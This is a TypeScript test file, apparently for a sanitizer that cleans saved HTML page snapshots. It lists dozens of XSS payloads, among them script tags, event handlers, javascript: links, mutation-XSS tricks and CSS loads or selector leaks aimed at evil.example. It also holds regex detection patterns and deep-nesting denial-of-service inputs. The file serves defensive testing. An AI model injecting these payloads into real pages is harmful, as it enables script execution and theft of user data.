import { describe, expect, test } from "vitest";
import { sanitizePage } from "../src/pictures/sanitize-page.ts";
import { loadsNothing, sanitizeStyles } from "../src/pictures/sanitize-styles.ts";

/** Ways to run or load something, as collected by https://github.com/cure53/DOMPurify and OWASP's cheat sheet. */
const HOSTILE = {
  script: "<script>alert(1)</script><SCRIPT SRC=//evil.example/x></SCRIPT>",
  "script in an odd place": "<p>a<script>alert(1)</script ><//script>b",
  "event attribute": `<img src=x onerror=alert(1)><body onload=alert(1)><div onpointerover="alert(1)">x</div>`,
  "event attribute after a slash": "<svg/onload=alert(1)><input/autofocus/onfocus=alert(1)>",
  "javascript address": `<a href="javascript:alert(1)">x</a><a href=" java\tscript:alert(1)">x</a>`,
  "vbscript and data addresses": `<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>`,
  "form action": `<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>`,
  "meta refresh": `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  base: `<base href="https://evil.example/"><a href="/x">x</a>`,
  "style sheet from elsewhere": `<link rel=stylesheet href=https://evil.example/x.css>`,
  prefetch: `<link rel=prefetch href=https://evil.example/x><link rel=dns-prefetch href=//evil.example>`,
  frames: `<iframe src=https://evil.example></iframe><frameset><frame src=javascript:alert(1)></frameset>`,
  srcdoc: `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  plugins: `<object data=javascript:alert(1)></object><embed src=https://evil.example><applet code=x></applet>`,
  "image from elsewhere": `<img src=https://evil.example/x.png srcset="https://evil.example/y.png 2x" lowsrc=x>`,
  "media from elsewhere": `<video src=https://evil.example poster=https://evil.example><source src=https://evil.example></video>`,
  "background attribute": `<body background=https://evil.example/x><table background=https://evil.example/x>`,
  "svg script": `<svg><script>alert(1)</script><script href=https://evil.example /></svg>`,
  "svg foreignObject": `<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`,
  "svg use": `<svg><use href="https://evil.example/x#y"/><use xlink:href="data:image/svg+xml,<svg onload=alert(1)>#x"/></svg>`,
  "svg animation": `<svg><a><animate attributeName=href values=javascript:alert(1) /><set attributeName=onload to=alert(1) /></a></svg>`,
  "svg image": `<svg><image href=https://evil.example/x /><feImage href=https://evil.example/x /></svg>`,
  "svg paint": `<svg><rect fill="url(https://evil.example/#x)" mask="url(//evil.example)"/></svg>`,
  "svg style": `<svg><style>@import "https://evil.example";</style></svg>`,
  mathml: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  "mathml link": `<math href="javascript:alert(1)"><maction actiontype="statusline#https://evil.example">x</maction></math>`,
  "mutation by namespaces": `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  "mutation by svg title": `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  "mutation by noscript": `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  "mutation by textarea": `<textarea></textarea><img src=x onerror=alert(1)></textarea>`,
  "mutation by xmp": `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><img src=x onerror=alert(1)>`,
  "mutation by select": `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>`,
  template: `<template><script>alert(1)</script><img src=x onerror=alert(1)></template>`,
  "shadow root": `<div><template shadowrootmode=open><script>alert(1)</script><img src=x onerror=alert(1)></template></div>`,
  "nested shadow roots": `<div><template shadowrootmode=closed><p><template shadowrootmode=open><iframe src=javascript:alert(1)></template></p></template></div>`,
  comment: `<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]--><?xml-stylesheet href=x?>`,
  "style address": `<p style="background:url(https://evil.example/x)">x</p><p style="background:\\75rl(//evil.example)">x</p>`,
  "style in old browsers": `<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</p>`,
  "style sheet": `<style>@import url(//evil.example);@font-face{src:url(//evil.example)}p{background:image-set("//evil.example/x" 1x)}</style>`,
  "style sheet that ends early": `<style>p{content:"</style><img src=x onerror=alert(1)>"}</style>`,
  "style sheet that is escaped": `<style>@\\69mport "//evil.example";p{background:u\\72l(//evil.example)}</style>`,
  "style sheet with comments": `<style>p{content:"/*";background:url(//evil.example);content:"*/"}</style>`,
  "style by selector": `<style>input[value^=a]{background:url(//evil.example/a)}@media x{p{cursor:url(//evil.example),auto}}</style>`,
  "source map": `<style>p{}/*# sourceMappingURL=/etc/passwd */</style>`,
  "custom element with a built-in": `<a is=x-y onclick=alert(1)><x-y src=https://evil.example href=javascript:alert(1)></x-y>`,
  "names of the document": `<img name=querySelector><form name=body><input name=children></form><img name=documentElement>`,
  manifest: `<html manifest=https://evil.example/x xmlns:x=y onload=alert(1)>`,
  portal: `<portal src=https://evil.example></portal><fencedframe></fencedframe><dialog open onclose=alert(1)></dialog>`,
  popover: `<button popovertarget=x onbeforetoggle=alert(1) command=show-modal>x</button>`,
  "ping and target": `<a href=/x ping=https://evil.example target=_top download>x</a>`,
  "broken tags": `<img """><script>alert(1)</script>"><<script>alert(1)//<</script><a/href=javascript:alert(1)>x`,
  "null and odd characters": `<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x onerror\u0000=alert(1)><a href="\u0001javascript:alert(1)">x</a>`,
};

/** What no safe page holds, wherever it stands; text between tags is cut, since it only shows. */
const DANGEROUS = [
  /<\/?(?:script|i?frame|frameset|object|embed|applet|link|meta|base|source|noscript|foreignobject|math|animate|set|image|feimage|portal|plaintext|xmp)\b/i,
  /<[^>]*\s(?:on\w+|srcset|srcdoc|action|formaction|poster|background|ping|target|manifest|is|popovertarget|xlink:href)\s*=/i,
  /\shref="(?!#)/i,
  /\ssrc="(?!data:image\/gif;base64,)/i,
  /evil\.example(?![^<]*<\/(?:a|p)>)/i,
  /<!--|<\?/,
  /\sname="(?:querySelector|body|documentElement)"/,
];

/** Attribute values may say what they like once they are quoted: only their names and addresses count. */
const tagsOf = (html: string) => html.replace(/\b(?:title|value|content|rel|data-[\w-]+)="[^"]*"/g, "");

describe.each(Object.entries(HOSTILE))("a hostile snapshot: %s", (_name, html) => {
  const safe = sanitizePage(`<!doctype html><html><head></head><body>${html}<p>end</p></body></html>`);

  test("nothing in it runs or leads or loads", () => {
    for (const pattern of DANGEROUS) expect(tagsOf(safe)).not.toMatch(pattern);
  });

  test("a browser reads it as it was written: it is safe a second time without a change", () => {
    expect(withoutHouse(sanitizePage(withoutHouse(safe)))).toBe(withoutHouse(safe));
  });
});

const withoutHouse = (html: string) => html.replace(/<style>img,video,canvas\{[^}]*\}<\/style>/, "");

test("what shows and arranges stays: boxes, classes, rules for widths, shadow roots, icons, the names of elements", () => {
  const page = `<!doctype html><html lang="id"><head><style>@media (width < 600px){.a:has(> b){color:red}}</style></head><body><main id="x" class="a b" data-testid="buy" aria-label="xxx"><a href="/kopi/gayo" data-ht-href="1x">xxx</a><img style="width: 40px; height: 30px"><my-card><template shadowrootmode="open"><slot name="y"></slot></template></my-card><svg viewBox="0 0 8 8"><path d="M0 0h8"></path></svg><input type="checkbox" name="terms"></main></body></html>`;
  const safe = sanitizePage(page);
  for (const kept of [
    "<!DOCTYPE html>",
    "@media (width < 600px){.a:has(> b){color:red;}}",
    `<main id="x" class="a b" data-testid="buy" aria-label="xxx">`,
    `<a href="#" data-ht-href="1x">`,
    `<img style="width:40px;height:30px;" src="data:image/gif`,
    `<template shadowrootmode="open"><slot name="y"></slot></template>`,
    `<path d="M0 0h8"></path>`,
    `<input type="checkbox" name="terms">`,
  ])
    expect(safe).toContain(kept);
});

test("images that a style brings along stay, all others go", () => {
  const styles = sanitizeStyles(
    "p{background:url(data:image/png;base64,AAAA) red;color:blue}q{background:url(data:image/svg+xml,<svg/>)}",
  );
  expect(styles).toBe("p{background:url(data:image/png;base64,AAAA) red;color:blue;}q{}");
  expect(loadsNothing("a:URL( 'https://evil.example' )")).toBe(false);
});

/** Of this process since then: by the clock, what else the machine does counts too. */
function processorSeconds(since: NodeJS.CpuUsage): number {
  const { user, system } = process.cpuUsage(since);
  return (user + system) / 1e6;
}

describe("a snapshot that would take minutes to read is refused at once", () => {
  test.each([
    ["nested deep", "<div>".repeat(100_000)],
    [
      "formatting that multiplies",
      `${Array.from({ length: 200 }, (_, i) => `<b class=${i}>`).join("")}${"<p>".repeat(100_000)}`,
    ],
    ["nested tables", "<table><tr><td>".repeat(30_000)],
    ["nested shadow roots", "<p><template shadowrootmode=open>".repeat(15_000)],
  ])("%s", (_name, html) => {
    const began = process.cpuUsage();
    expect(() => sanitizePage(html)).toThrow(/nests deeper|more than 50000/);
    expect(processorSeconds(began)).toBeLessThan(5);
  });

  test("styles nested deep, and escapes without end, are read in passing", () => {
    const began = process.cpuUsage();
    sanitizePage(`<style>${"a{".repeat(200_000)}</style>`);
    sanitizePage(
      `<style>a{b:${"\\75 ".repeat(100_000)}}</style><style>a{b:${"url(".repeat(100_000)}}</style>`,
    );
    sanitizePage(`<p style="${"a:b;".repeat(100_000)}">`);
    expect(processorSeconds(began)).toBeLessThan(5);
  });
});
